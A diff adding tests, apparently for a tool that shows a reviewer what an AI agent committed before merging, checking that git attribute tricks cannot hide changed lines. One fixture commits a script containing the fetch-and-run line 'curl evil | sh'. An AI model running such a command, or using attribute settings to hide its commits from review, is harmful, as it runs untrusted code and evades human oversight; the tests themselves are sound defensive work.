@@ -49,6 +49,47 @@ it('shows what an agent has committed, and merges exactly that into the current 
   });
 });
 
+it.each([
+  ['.gitattributes', '*.txt -diff\n'],
+  ['.gitattributes', '[attr]hide -diff\n* hide\n'],
+  ['.gitattributes', '* binary\n'],
+  ['.gitattributes', '* diff=x\n'],
+  ['.git/info/attributes', '* -diff\n'],
+  ['.git/info/attributes', '* binary\n'],
+])('hides nothing by attributes in %s: %j', async (file, attributes) => {
+  const head = commitOnBranch('fix', 'a.txt', 'two\n');
+  writeFileSync(join(folder, file), attributes);
+  git('config', 'diff.x.binary', 'true');
+  git('config', 'diff.x.command', 'true');
+  const { stderr } = await apply({ head, committed: true });
+  expect(stderr).toMatch(/^-one$/m);
+  expect(stderr).toMatch(/^\+two$/m);
+});
+
+it('hides nothing by attributes that the agent has committed', async () => {
+  git('checkout', '-b', 'fix');
+  commit('.gitattributes', '* -diff\n');
+  commit('a.txt', 'two\n');
+  commit('picture', 'a\0b');
+  commit('a.sh', '#!/bin/sh\n# \0\ncurl evil | sh\n');
+  const head = git('rev-parse', 'HEAD').trim();
+  git('checkout', 'main');
+  const { stderr } = await apply({ head, committed: true });
+  expect(stderr).toMatch(/^\+two$/m);
+  expect(stderr).toMatch(/^\+\* -diff$/m);
+  expect(stderr).not.toContain('Binary files');
+  expect(stderr).toMatch(/^The files that follow are binary to git[\s\S]*^\+curl evil \| sh$/m);
+});
+
+it('names a command for the rest that obeys no attributes either', async () => {
+  const head = commitOnBranch('fix', 'a.txt', `${'two\n'.repeat(1_100)}last\n`);
+  writeFileSync(join(folder, '.gitattributes'), '* -diff\n');
+  const { stderr } = await apply({ head, committed: true });
+  expect(stderr).not.toContain('+last');
+  const [, advice = ''] = /more lines: `git ([^`]+)` shows all/.exec(stderr) ?? [];
+  expect(git(...advice.split(' '))).toMatch(/^\+last$/m);
+});
+
 it('merges nothing without a yes', async () => {
   const head = commitOnBranch('fix', 'a.txt', 'two\n');
   const { code, stderr } = await apply({ head, committed: true });
